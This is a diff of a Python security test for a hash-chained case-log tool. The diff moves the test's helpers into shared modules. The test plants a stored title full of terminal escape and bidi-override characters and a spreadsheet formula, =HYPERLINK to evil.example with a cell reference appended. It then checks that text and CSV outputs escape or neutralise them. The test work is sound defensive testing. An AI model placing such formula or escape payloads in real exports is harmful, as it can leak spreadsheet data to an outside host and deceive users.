@@ -20,7 +20,6 @@ Then:
   - `log --format csv` and `case show --format csv` print the formula actor as the cell
     `'=HYPERLINK(...)` (quoted per RFC 4180), the exact record asserted.
 """
-import hashlib
 import json
 import os
 import re
@@ -29,10 +28,11 @@ import subprocess
 import sys
 import tempfile
 
-GENESIS = "0" * 64
-COLUMNS = ["seq", "org", "recorded_at", "effective_date", "actor", "kind", "budget_year", "body",
-           "case_body", "case_year", "case_sequence", "details", "irregular", "reason",
-           "prev_hash", "hash"]
+sys.dont_write_bytecode = True  # no __pycache__ in the source tree
+from harness import check, example_database, verdict  # noqa: E402
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "reliability"))
+from tamper import COLUMNS, GENESIS, chain_hash  # noqa: E402 (the chain as tamper.py computes it)
 
 TITLE = ("Sak \x1b[31mrød\x1b[0m \x9b2J \u202eevil\u202c \u2066iso\u2069 "
          "bell\x07 cr\rX del\x7f æøå")
@@ -46,37 +46,14 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klikk")'
 # line-separating characters.
 FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029"
                        "\u202a-\u202e\u2066-\u2069]")
-FAILURES = []
 RECORDED_AT = "2021-10-01T12:00:00Z"
 
 
-def check(ok, message):
-    if not ok:
-        FAILURES.append(message)
-        print("FAIL: " + message)
-
-
-# ---------------------------------------------------------------- planting (as tamper.py does)
-
-def canonical(row):
-    """engine/hash_chain.cpp's canonical bytes of a stored row (tests/reliability/tamper.py)."""
-    case = None
-    if row["case_body"] is not None:
-        case = [row["case_body"], row["case_year"], row["case_sequence"]]
-
-    def enc(value):
-        return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
-
-    parts = [enc(v) for v in ("cycle-event-v1", row["seq"], row["org"], row["recorded_at"],
-                              row["effective_date"], row["actor"], row["kind"],
-                              row["budget_year"], row["body"], case)]
-    parts += [row["details"], enc(bool(row["irregular"])), enc(row["reason"])]
-    return ("[" + ",".join(parts) + "]").encode("utf-8")
-
+# ---------------------------------------------------------------- planting
 
 def plant(db, changes):
     """Applies `changes` ({seq: {column: value}}) with the triggers out of the way, rehashes
-    the chain from the first changed event on, and puts the triggers back."""
+    the whole chain (the events before the first change keep their hashes), and puts the triggers back."""
     conn = sqlite3.connect(db)
     conn.row_factory = sqlite3.Row
     triggers = list(conn.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'"))
@@ -88,7 +65,7 @@ def plant(db, changes):
     prev = GENESIS
     for row in [dict(r) for r in conn.execute(
             "SELECT " + ", ".join(COLUMNS) + " FROM case_log ORDER BY seq")]:
-        digest = hashlib.sha256(prev.encode("ascii") + canonical(row)).hexdigest()
+        digest = chain_hash(prev, row)
         conn.execute("UPDATE case_log SET prev_hash = ?, hash = ? WHERE seq = ?",
                      (prev, digest, row["seq"]))
         prev = digest
@@ -127,8 +104,7 @@ def main():
     cycle, root = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2])
     with tempfile.TemporaryDirectory() as work:
         db = os.path.join(work, "cycle.db")
-        subprocess.run(["bash", os.path.join(root, "examples", "osloregionen-2021.sh"), cycle, db],
-                       check=True, capture_output=True)
+        example_database(cycle, root, db)
         opened = run(cycle, db, "--today", "2021-09-01", "case", "open", "--body", "board",
                      "--title", "PLANTED LATER", "--date", "2021-09-01")
         number = opened.stdout.decode().strip()
@@ -168,16 +144,12 @@ def main():
         record = (f'{formula_seq},{RECORDED_AT},2021-09-02,"\'{FORMULA.replace(chr(34), 2 * chr(34))}",'
                   f'board,{formula_number},case-opened,,"{{""title"":""Budsjett, 2022""}}",no,\r\n')
         csv = shown("log csv", run(cycle, db, *today, "log", "--format", "csv"), crlf=True)
-        check(record in csv.splitlines(keepends=True) or ("\n" + record) in csv,
+        check("\r\n" + record in csv,
               f"log --format csv: no record {record!r}")
         csv = shown("case show csv", run(cycle, db, *today, "case", "show", formula_number,
                                          "--format", "csv"), crlf=True)
         check(csv.endswith("\r\n" + record), f"case show --format csv: {csv!r}, expected {record!r}")
-    if FAILURES:
-        print(f"{len(FAILURES)} failures")
-        return 1
-    print("stored text: escaped in every text output, formulas neutralised in CSV")
-    return 0
+    return verdict("stored text: escaped in every text output, formulas neutralised in CSV")
 
 
 if __name__ == "__main__":
